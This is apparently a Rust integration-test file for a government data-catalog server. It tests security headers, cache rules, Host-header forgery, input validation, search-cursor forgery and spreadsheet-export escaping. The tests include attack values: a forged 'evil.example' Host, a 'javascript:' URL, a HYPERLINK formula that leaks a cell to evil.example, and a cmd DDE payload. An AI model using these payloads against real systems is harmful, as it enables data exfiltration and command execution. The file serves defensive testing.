//! Headers and input hygiene against the real server, one attack per test: security headers on
//! the portal, the API, the workbench and the Swagger UI (and the pages still work in Chromium
//! under their policy); an unregistered product's sample is never cached; a forged `Host` never
//! reaches the Atom, DCAT or CKAN links; control characters and oversized lists are refused; a
//! body that only looks like JSON is refused; a forged search cursor is refused; a formula
//! written into an entry comes back from the spreadsheet export as text.

use reqwest::StatusCode;
use reqwest::header::HeaderMap;
use serde_json::{Value, json};

use crate::people::{DEMO_PASSWORD, browser_client, sign_in};
use crate::portal::{Driver, browser};
use crate::server::{Server, person_token};

const POLICY: &str = "default-src 'self'; object-src 'none'; frame-ancestors 'none'; \
                      base-uri 'self'; form-action 'self'";

fn header<'a>(h: &'a HeaderMap, name: &str) -> &'a str {
    h.get(name)
        .map(|v| v.to_str().unwrap())
        .unwrap_or_else(|| panic!("no {name} header in {h:?}"))
}

/// The headers every response carries; `no_store` says whether it must not be cached.
fn assert_secured(what: &str, h: &HeaderMap, no_store: bool) {
    assert_eq!(header(h, "x-content-type-options"), "nosniff", "{what}");
    assert_eq!(header(h, "referrer-policy"), "same-origin", "{what}");
    assert_eq!(header(h, "x-frame-options"), "DENY", "{what}");
    let csp = header(h, "content-security-policy");
    assert!(csp.contains("frame-ancestors 'none'"), "{what}: {csp}");
    assert!(csp.starts_with("default-src 'self'"), "{what}: {csp}");
    let cache = h.get("cache-control").map(|v| v.to_str().unwrap());
    if no_store {
        assert!(
            cache.is_some_and(|c| c.contains("no-store")),
            "{what}: {cache:?}"
        );
    } else {
        assert!(
            cache.is_none_or(|c| !c.contains("no-store")),
            "{what}: {cache:?}"
        );
    }
}

async fn problem(response: reqwest::Response, status: StatusCode) -> Value {
    assert_eq!(response.status(), status);
    assert_eq!(
        response.headers()["content-type"],
        "application/problem+json"
    );
    response.json().await.unwrap()
}

#[tokio::test]
async fn security_headers_on_portal_api_workbench_and_docs() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_demo(dir.path());
    let http = reqwest::Client::new();
    let get = |path: &str| http.get(server.url(path)).send();

    // The public: portal pages, the API, errors; cacheable as the handler says.
    for path in [
        "/",
        "/search?q=公交",
        "/api/v1/resources?limit=1",
        "/no-such-page",
    ] {
        let r = get(path).await.unwrap();
        assert_eq!(header(r.headers(), "content-security-policy"), POLICY);
        assert_secured(path, r.headers(), false);
    }
    let css = get("/static/portal.css").await.unwrap();
    assert_secured("css", css.headers(), false);
    assert_eq!(
        header(css.headers(), "cache-control"),
        "public, max-age=86400"
    );

    // Anything answering a token is private, refusals included.
    let token = person_token(dir.path(), "tianbao", "provider");
    for (path, bearer) in [
        ("/api/v1/workspace/resources?limit=1", token.as_str()),
        ("/api/v1/resources?limit=1", token.as_str()),
        ("/api/v1/resources?limit=1", "mulu_forged"),
    ] {
        let r = http
            .get(server.url(path))
            .bearer_auth(bearer)
            .send()
            .await
            .unwrap();
        assert_secured(path, r.headers(), true);
    }

    // Sign-in and the workbench: never cached, before and after signing in.
    let clerk = browser_client();
    let form = clerk.get(server.url("/signin")).send().await.unwrap();
    assert_secured("/signin", form.headers(), true);
    let r = sign_in(&clerk, &server, "tianbao", DEMO_PASSWORD).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_secured("sign-in post", r.headers(), true);
    let page = clerk.get(server.url("/workbench")).send().await.unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    assert_eq!(header(page.headers(), "content-security-policy"), POLICY);
    assert_secured("/workbench", page.headers(), true);
    assert!(page.text().await.unwrap().contains("待办"));
    // The session cookie makes even a public page private.
    let home = clerk.get(server.url("/")).send().await.unwrap();
    assert_secured("/ signed in", home.headers(), true);

    // Swagger UI gets data: images and inline styles, scripts still from Mulu only.
    let docs = get("/docs/").await.unwrap();
    assert_eq!(docs.status(), StatusCode::OK);
    let csp = header(docs.headers(), "content-security-policy").to_string();
    assert_secured("/docs/", docs.headers(), false);
    assert!(csp.contains("img-src 'self' data:"), "{csp}");
    assert!(!csp.contains("script-src"), "scripts stay 'self': {csp}");
    assert!(!docs.text().await.unwrap().contains("https://"));

    // In a real browser, under these policies: the portal's stylesheet and script apply, the
    // Swagger UI renders its operations, the workbench its frame.
    let Some((driver_path, chrome)) = browser() else {
        assert!(
            std::env::var_os("CI").is_none(),
            "chromium and chromedriver are required in CI"
        );
        eprintln!("skipped the browser part: no chromium/chromedriver");
        return;
    };
    let driver = Driver::start(&driver_path);
    let client = driver.session(&chrome).await;
    client.goto(&server.url("/")).await.unwrap();
    let styled = client
        .execute(
            "return getComputedStyle(document.querySelector('a.skip')).position",
            vec![],
        )
        .await
        .unwrap();
    assert_ne!(styled, json!("static"), "portal.css applies");
    client.goto(&server.url("/docs/")).await.unwrap();
    let mut operations = json!(0);
    for _ in 0..100 {
        operations = client
            .execute(
                "return document.querySelectorAll('.opblock').length",
                vec![],
            )
            .await
            .unwrap();
        if operations.as_u64().unwrap_or(0) > 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(
        operations.as_u64().unwrap() > 10,
        "Swagger UI renders: {operations}"
    );
    client.close().await.unwrap();
}

#[tokio::test]
async fn an_unregistered_products_sample_is_never_cached() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_demo(dir.path());
    let operator = person_token(dir.path(), "yunying", "operator");
    let http = reqwest::Client::new();

    // A second product under the demo's authorization, from the registered one's sources.
    let listed: Value = http
        .get(server.url("/api/v1/products"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let registered = &listed["items"][0];
    let mut details = json!({"name": "未登记的演示产品"});
    for field in [
        "summary",
        "delivery_form",
        "authorization_id",
        "source_resource_ids",
        "applicable_scenarios",
        "scene_category",
    ] {
        details[field] = registered[field].clone();
    }
    let created = http
        .post(server.url("/api/v1/operator/products"))
        .bearer_auth(&operator)
        .json(&details)
        .send()
        .await
        .unwrap();
    assert_eq!(created.status(), StatusCode::CREATED, "{details}");
    let pid = created.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let uploaded = http
        .put(server.url(&format!("/api/v1/operator/products/{pid}/sample")))
        .bearer_auth(&operator)
        .header("content-type", "text/csv")
        .body("线路,客流\n1路,1024\n")
        .send()
        .await
        .unwrap();
    assert_eq!(uploaded.status(), StatusCode::OK);

    // The operator reads it back: nothing on the way may keep it.
    let own = http
        .get(server.url(&format!("/api/v1/products/{pid}/sample")))
        .bearer_auth(&operator)
        .send()
        .await
        .unwrap();
    assert_eq!(own.status(), StatusCode::OK);
    let cache = header(own.headers(), "cache-control");
    assert!(
        cache.contains("no-store") && !cache.contains("public"),
        "{cache}"
    );
    assert!(header(own.headers(), "content-security-policy").starts_with("sandbox"));
    let public = http
        .get(server.url(&format!("/api/v1/products/{pid}/sample")))
        .send()
        .await
        .unwrap();
    assert_eq!(public.status(), StatusCode::NOT_FOUND);

    // A registered product's sample, fetched by anyone, may be cached publicly.
    if registered["sample"].is_object() {
        let id = registered["id"].as_str().unwrap();
        let r = http
            .get(server.url(&format!("/api/v1/products/{id}/sample")))
            .send()
            .await
            .unwrap();
        assert_eq!(header(r.headers(), "cache-control"), "public, max-age=300");
    }
}

#[tokio::test]
async fn links_use_the_public_url_whatever_the_host_header() {
    let dir = tempfile::tempdir().unwrap();
    let public = "https://data.example.gov.cn";
    let server = Server::start(&[
        "--demo",
        "--demo-corpus",
        "builtin",
        "--data-dir",
        dir.path().to_str().unwrap(),
        "--public-url",
        "https://data.example.gov.cn/",
    ]);
    let http = reqwest::Client::new();
    let forged = |path: &str| {
        http.get(server.url(path))
            .header("host", "evil.example:666")
            .send()
    };
    for path in [
        "/feeds/registrations.atom",
        "/feeds/editions.atom",
        "/catalog.ttl",
        "/catalog.jsonld",
        "/api/3/action/package_search?rows=2",
        "/api/3/action/status_show",
    ] {
        let r = forged(path).await.unwrap();
        assert_eq!(r.status(), StatusCode::OK, "{path}");
        let body = r.text().await.unwrap();
        assert!(!body.contains("evil.example"), "{path}: {body}");
        assert!(body.contains(&format!("{public}/")), "{path}: {body}");
    }

    // Without --public-url, links start with the address the server listens on.
    drop(server);
    let server = Server::start_demo(dir.path());
    let body = http
        .get(server.url("/catalog.ttl"))
        .header("host", "evil.example")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!body.contains("evil.example"), "{body}");
    assert!(
        body.contains(&format!("{}/catalog.ttl", server.base)),
        "{body}"
    );

    // A public URL that could smuggle anything into links is refused at start-up.
    let other = tempfile::tempdir().unwrap();
    let out = std::process::Command::new(crate::server::MULU)
        .args(["serve", "--bind", "127.0.0.1:0", "--data-dir"])
        .arg(other.path())
        .args(["--public-url", "javascript:alert(1)"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("--public-url"));
}

#[tokio::test]
async fn control_characters_oversized_lists_and_json_lookalikes_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_demo(dir.path());
    let provider = person_token(dir.path(), "tianbao", "provider");
    let http = reqwest::Client::new();
    let entry = |name: &str| {
        json!({"content": {
            "name": name, "summary": "公交线路与站点", "grade": {"level": "一般数据"},
            "share_type": "无条件共享", "open_type": "无条件开放", "update_frequency": "每月",
        }})
    };
    let create = |body: Value| {
        http.post(server.url("/api/v1/workspace/resources"))
            .bearer_auth(&provider)
            .json(&body)
            .send()
    };

    for (spoil, field, words) in [
        ("公交\u{0}线路", "content.name", "控制字符"),
        ("公交\u{1}线路", "content.name", "控制字符"),
        ("公交\u{fffe}线路", "content.name", "非字符"),
        ("公交\n线路", "content.name", "换行"),
    ] {
        let p = problem(
            create(entry(spoil)).await.unwrap(),
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(p["field"], field, "{p}");
        assert!(p["detail"].as_str().unwrap().contains(words), "{p}");
    }
    let mut body = entry("公交线路");
    body["content"]["data_items"] = json!([{"name": "线路\u{1b}[31m", "data_type": "字符型"}]);
    let p = problem(
        create(body).await.unwrap(),
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(p["field"], "content.data_items[0].name", "{p}");

    // 10,000 data items, 10,000 tags, a tag of 1,000 characters.
    let mut body = entry("公交线路");
    body["content"]["data_items"] = (0..10_000)
        .map(|i| json!({"name": format!("字段{i}"), "data_type": "字符型"}))
        .collect();
    let p = problem(
        create(body).await.unwrap(),
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(p["field"], "content.data_items", "{p}");
    assert!(p["detail"].as_str().unwrap().contains("500"), "{p}");
    let mut body = entry("公交线路");
    body["content"]["tags"] = (0..10_000).map(|i| json!(format!("标签{i}"))).collect();
    let p = problem(
        create(body).await.unwrap(),
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(p["field"], "content.tags", "{p}");
    let mut body = entry("公交线路");
    body["content"]["tags"] = json!(["长".repeat(1000)]);
    let p = problem(
        create(body).await.unwrap(),
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(p["field"], "content.tags[0]", "{p}");

    // Only application/json and application/*+json are JSON.
    for (content_type, status) in [
        ("application/jsonx", StatusCode::UNSUPPORTED_MEDIA_TYPE),
        ("application/json-patch", StatusCode::UNSUPPORTED_MEDIA_TYPE),
        ("text/json", StatusCode::UNSUPPORTED_MEDIA_TYPE),
        ("application/merge-patch+json", StatusCode::CREATED),
        ("application/json; charset=utf-8", StatusCode::CREATED),
    ] {
        let r = http
            .post(server.url("/api/v1/workspace/resources"))
            .bearer_auth(&provider)
            .header("content-type", content_type)
            .body(entry(&format!("公交线路（{content_type}）")).to_string())
            .send()
            .await
            .unwrap();
        if status == StatusCode::CREATED {
            assert_eq!(r.status(), status, "{content_type}");
        } else {
            let p = problem(r, status).await;
            assert!(p["detail"].as_str().unwrap().contains("JSON"), "{p}");
        }
    }

    // Nothing refused was stored: of all these, only the two JSON entries became drafts.
    let mine: Value = http
        .get(server.url("/api/v1/workspace/resources?status=draft&limit=500"))
        .bearer_auth(&provider)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let mut names: Vec<&str> = mine["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["content"]["name"].as_str().unwrap())
        .filter(|n| n.starts_with("公交"))
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "公交线路（application/json; charset=utf-8）",
            "公交线路（application/merge-patch+json）"
        ]
    );
}

#[tokio::test]
async fn forged_search_cursors_are_refused_and_real_ones_survive_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_demo(dir.path());
    let http = reqwest::Client::new();
    let search = |cursor: &str| {
        let mut url = url::Url::parse(&server.url("/api/v1/search")).unwrap();
        url.query_pairs_mut()
            .append_pair("limit", "2")
            .append_pair("sort", "updated");
        if !cursor.is_empty() {
            url.query_pairs_mut().append_pair("cursor", cursor);
        }
        http.get(url).send()
    };
    // A document indexed later could sort between pages: read once the index has caught up.
    server.search_current().await;
    let first: Value = search("").await.unwrap().json().await.unwrap();
    let cursor = first["next_cursor"].as_str().unwrap().to_string();
    let second = search(&cursor).await.unwrap();
    assert_eq!(second.status(), StatusCode::OK);
    let second: Value = second.json().await.unwrap();
    assert_ne!(first["hits"][0], second["hits"][0]);

    // One character changed; a cursor built by hand in the unsigned format of before (version 1,
    // by time, "after the end of time": every document); garbage.
    let mut altered: Vec<char> = cursor.chars().collect();
    altered[6] = if altered[6] == 'A' { 'B' } else { 'A' };
    let altered: String = altered.into_iter().collect();
    for forged in [altered.as_str(), "AQH__________wAAAAAAAAAA", "AAAA"] {
        let p = problem(
            search(forged).await.unwrap(),
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(p["field"], "cursor", "{p}");
        assert!(p["detail"].as_str().unwrap().contains("游标无效"), "{p}");
    }

    // The key lives in the database: a restarted node (or another node) takes the cursor.
    drop(server);
    let server = Server::start_demo(dir.path());
    let mut url = url::Url::parse(&server.url("/api/v1/search")).unwrap();
    url.query_pairs_mut()
        .append_pair("limit", "2")
        .append_pair("sort", "updated")
        .append_pair("cursor", &cursor);
    let again: Value = http.get(url).send().await.unwrap().json().await.unwrap();
    assert_eq!(again["hits"][0], second["hits"][0]);
}

#[tokio::test]
async fn spreadsheet_exports_write_formulas_as_text() {
    use calamine::{Data, Reader, Xlsx};

    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_demo(dir.path());
    let provider = person_token(dir.path(), "tianbao", "provider");
    let http = reqwest::Client::new();
    let attack = r#"=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")"#;
    let created = http
        .post(server.url("/api/v1/workspace/resources"))
        .bearer_auth(&provider)
        .json(&json!({"content": {
            "name": attack, "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
            "tags": ["+1", "-1"], "grade": {"level": "一般数据"},
            "share_type": "无条件共享", "open_type": "无条件开放", "update_frequency": "每月",
            "data_items": [{"name": "=1+1", "data_type": "字符型"}],
        }}))
        .send()
        .await
        .unwrap();
    assert_eq!(created.status(), StatusCode::CREATED);

    let csv = http
        .get(server.url("/api/v1/workspace/exports/directory.csv?status=draft"))
        .bearer_auth(&provider)
        .send()
        .await
        .unwrap();
    assert_eq!(csv.status(), StatusCode::OK);
    assert!(header(csv.headers(), "cache-control").contains("no-store"));
    let csv = csv.text().await.unwrap();
    let row = csv.lines().find(|l| l.contains("HYPERLINK")).unwrap();
    assert!(row.starts_with("\"'=HYPERLINK("), "{row}");
    assert!(row.contains(",'@SUM(1+1)"), "{row}");
    assert!(row.contains(",'+1；-1,"), "{row}");

    let xlsx = http
        .get(server.url("/api/v1/workspace/exports/directory.xlsx?status=draft"))
        .bearer_auth(&provider)
        .send()
        .await
        .unwrap();
    assert_eq!(xlsx.status(), StatusCode::OK);
    let bytes = xlsx.bytes().await.unwrap().to_vec();
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let mut found = Vec::new();
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).unwrap();
        assert!(
            formulas.used_cells().next().is_none(),
            "{sheet} has formulas"
        );
        for (_, _, cell) in book.worksheet_range(&sheet).unwrap().used_cells() {
            if let Data::String(s) = cell {
                assert!(!s.starts_with(['=', '+', '-', '@']), "{sheet}: {s}");
                if s.starts_with('\'') {
                    found.push(s.clone());
                }
            }
        }
    }
    for expected in [
        &format!("'{attack}"),
        "'=1+1",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ] {
        assert!(
            found.iter().any(|s| s == expected),
            "{expected} in {found:?}"
        );
    }

    // Other people never see the provider's drafts in an export.
    let operator = person_token(dir.path(), "yunying", "operator");
    let r = http
        .get(server.url("/api/v1/workspace/exports/directory.csv"))
        .bearer_auth(&operator)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
}
